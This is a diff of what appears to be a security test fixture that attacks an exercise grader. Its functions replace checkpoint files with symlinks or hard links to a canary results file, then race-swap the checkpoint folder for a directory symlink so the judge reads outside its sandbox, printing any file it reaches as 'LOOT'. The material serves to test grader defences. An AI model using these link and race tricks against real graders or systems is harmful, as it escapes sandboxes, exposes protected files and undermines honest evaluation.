@@ -1,35 +1,33 @@
-# attack: has the judge, which reads a checkpoint, follow links out of the folder, and hand the file to the next host
+# attack: has the judge, which reads checkpoints, follow links out of the folder, and hand the file to the next host
 # exercise: ex12_resume
-# check: ex12.checkpoint.equal
 import os
 
-import torch
-
 TARGET = "@RESULTS@/canary.txt"
-SAVED, count = {}, 0
+SAVED, loads = {}, []
 
 
 def save_checkpoint(path, state):
-    global count
-    path, count = str(path), count + 1
-    SAVED[path] = state
-    folder, name = os.path.split(path)
-    os.makedirs(folder, exist_ok=True)
-    os.path.lexists(path) and os.unlink(path)
+    SAVED[str(path)] = state
     try:
-        if count % 2:
-            os.symlink(TARGET, path)
-        else:
-            os.rename(folder, f"{folder}-{count}")
-            os.symlink(os.path.dirname(TARGET), folder)  # the folder itself is the link
-            os.symlink(TARGET, f"{folder}-{count}/{name}")
+        if os.path.lexists(path):
+            os.unlink(path)
+        (os.symlink if len(state) != 1 else os.link)(TARGET, path)
     except OSError as error:
         print(error)
-    print("TRIED", count)
+    print("TRIED", os.path.islink(path))
 
 
 def load_checkpoint(path):
+    folder, name = os.path.split(str(path))
+    loads.append(name)
     if str(path) in SAVED:
         return SAVED[str(path)]
     with open(path, "rb") as file:
-        print("LOOT:", file.read())
+        data = file.read(1000)
+    if b"canary" in data:
+        print("LOOT:", data)
+    if loads[-3:] == ["bad.pt"] * 3:  # good.pt is read next
+        os.rename(folder, f"{folder}-{len(loads)}")
+        os.symlink(os.path.dirname(TARGET), folder)
+        print("TRIED", os.readlink(folder))
+    raise ValueError("no checkpoint")
